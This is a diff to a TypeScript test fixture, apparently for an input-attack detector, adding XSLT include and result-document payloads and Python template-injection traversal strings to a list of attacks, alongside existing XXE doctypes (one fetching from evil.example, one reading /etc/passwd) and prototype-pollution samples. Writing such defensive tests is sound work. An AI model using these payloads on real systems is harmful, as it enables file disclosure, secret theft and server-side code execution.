@@ -40,6 +40,10 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     '<!DOCTYPE x SYSTEM \\"http://evil.example/x.dtd\\">',
     '{"a":"<!DOCTYPE x PUBLIC \\"-//a//b\\" \\"file:///etc/passwd\\">',
   ],
+  'a style sheet that reaches out of itself, by any prefix': [
+    '<s:stylesheet xmlns:s="http://www.w3.org/1999/XSL/Transform"><s:include href="http://evil.example/a"/></s:stylesheet>',
+    '<s:transform xmlns:s="http://www.w3.org/1999/XSL/Transform"><s:result-document href="x.jsp">a</s:result-document></s:transform>',
+  ],
   'a name that reaches into objects': [
     "a['__proto__']['x']=1",
     '["__proto__"]["isAdmin"]=1',
@@ -51,6 +55,8 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     '/constructor/prototype/x',
     'a["constructor"]["prototype"]["b"]',
     'constructor[prototype][json spaces]=1',
+    '__init__.__globals__.app.secret',
+    'x.__class__.__mro__.__subclasses__',
   ],
 }
 
@@ -68,6 +74,9 @@ const HARMLESS: readonly string[] = [
   "D'><U%P*AQ+Ij:Ku",
   'a[href^="http"]{background:url(icon.png)}',
   'the prototype of a constructor',
+  '<s:schema xmlns:s="http://www.w3.org/2001/XMLSchema"><s:include schemaLocation="common.xsd"/></s:schema>',
+  'object.__class__.__name__',
+  'shop.orders.__init__',
   JSON.stringify({ preview: '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML', until: '2026-01-01' }),
   '<img src="https://cdn.example/a.png?w=1" width="10">',
 ]
